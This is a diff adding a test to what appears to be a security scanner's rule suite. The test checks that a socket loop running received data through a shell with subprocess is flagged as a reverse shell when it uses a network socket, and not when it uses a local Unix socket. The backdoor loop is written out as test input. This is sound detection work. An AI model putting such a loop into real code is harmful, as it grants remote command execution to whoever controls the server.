@@ -202,6 +202,19 @@ def test_reverse_shell_in_setup() -> None:
     assert run(R, benign) == []
 
 
+def test_commands_from_a_socket_versus_a_local_control_socket() -> None:
+    """A backdoor runs what a remote server sends; a media player's wrapper starts the player
+    and reads its replies from a Unix domain socket."""
+    loop = (
+        "    s.connect(ADDRESS)\n    while True:\n        data = s.recv(1024)\n"
+        "        subprocess.run(data.decode(), shell=True)\n"
+    )
+    remote = py("import socket, subprocess\ns = socket.socket(socket.AF_INET)\ndef go():\n" + loop)
+    assert [f.severity for f in run(R, remote) if f.rule == "PV-BEH-REVSHELL"] == [Severity.HIGH]
+    local = py("import socket, subprocess\ns = socket.socket(socket.AF_UNIX)\ndef go():\n" + loop)
+    assert "PV-BEH-REVSHELL" not in ids(run(R, local))
+
+
 def test_a_port_probe_through_dev_tcp_is_no_shell() -> None:
     """pytest-testinfra checks that a port opens with ``cat < /dev/null > /dev/tcp/h/p``."""
     probe = py("CHECK = \"timeout 1 bash -c 'cat < /dev/null > /dev/tcp/%s/%s'\"\n", stage=Stage.RUNTIME)
